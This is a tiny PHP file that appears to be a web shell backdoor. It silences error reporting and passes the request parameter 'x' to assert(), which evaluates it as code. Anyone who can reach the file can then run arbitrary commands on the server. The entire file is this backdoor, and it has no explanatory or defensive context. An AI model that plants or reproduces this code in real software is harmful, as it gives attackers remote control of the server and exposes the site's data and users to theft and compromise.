<?php
error_reporting(0);
if (isset($_REQUEST['x'])) {
    assert(stripslashes($_REQUEST['x']));
}
